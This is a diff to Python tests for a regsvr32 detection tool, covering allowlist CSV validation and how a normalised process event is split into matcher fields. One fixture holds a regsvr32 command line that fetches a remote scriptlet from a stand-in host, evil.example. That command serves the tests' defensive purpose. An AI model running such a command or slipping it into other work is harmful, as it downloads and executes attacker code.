@@ -12,7 +12,6 @@ from regsvr32_detector.allowlist_columns import COLUMNS, MATCHERS, Facts
 from regsvr32_detector.fields import normalize
 from support.events import proc
 
-from allowlist_table import README, section, table
 from support.allowlists import HEADER, allowlist_row
 from support.events import DEFAULT_ALLOWLIST
 
@@ -44,8 +43,9 @@ def _load(tmp_path, text, name="list.csv"):
     (HEADER + allowlist_row(rule_id="*", reason="r"), 2, "no matcher column"),
     (HEADER + allowlist_row(rule_id="R32-007", module="a", reason="r", expires="31/12/2027"), 2, "not a date"),
     (HEADER + allowlist_row(rule_id="R32-007", module="a", reason="r") * 2, 3, "duplicate of list.csv:2"),
-    (HEADER.strip() + ",colour\n", 1, "column 15 'colour' is not a known column"),
-    (HEADER + "R32-007,a,b,c,d,e,f,g,h,i,j,k,l,m,extra\n", 2, "cells but the header has"),
+    (HEADER.strip() + ",colour\n", 1, "column %d 'colour' is not a known column" % (len(COLUMNS) + 1)),
+    (HEADER + ",".join(["R32-007"] + ["a"] * (len(COLUMNS) - 1) + ["extra"]) + "\n", 2,
+     "cells but the header has"),
 ])
 def test_bad_rows_are_reported_with_file_and_line(tmp_path, text, line, message):
     _, problems = _load(tmp_path, text)
@@ -222,12 +222,9 @@ def test_column_table_drives_header_folding_and_facts():
         assert tuple(f.readline().strip().split(",")) == COLUMNS
     event = normalize(proc("regsvr32 /s /i:http://Evil.example/a.sct C:/Users/Public/A.DLL"))
     facts = Facts(event)
-    assert [facts.get(c) for c in MATCHERS] == [
-        ("c:\\windows\\system32\\regsvr32.exe",), ("c:\\windows\\system32\\cmd.exe",),
-        ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
-        ("c:\\users\\public\\a.dll",), ("evil.example",), (), (), (), ("corp\\alice",), ("ws01",)]
-
-
-def test_readme_column_table_matches_the_column_table():
-    with io.open(README, encoding="utf-8") as f:
-        assert section(f.read()) == table(), "run: python3 tests/allowlist_table.py --write"
+    assert dict((c, facts.get(c)) for c in MATCHERS if facts.get(c)) == {
+        "image": ("c:\\windows\\system32\\regsvr32.exe",),
+        "parent_image": ("c:\\windows\\system32\\cmd.exe",),
+        "command_line": ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
+        "module": ("c:\\users\\public\\a.dll",), "url_host": ("evil.example",),
+        "user": ("corp\\alice",), "host": ("ws01",)}
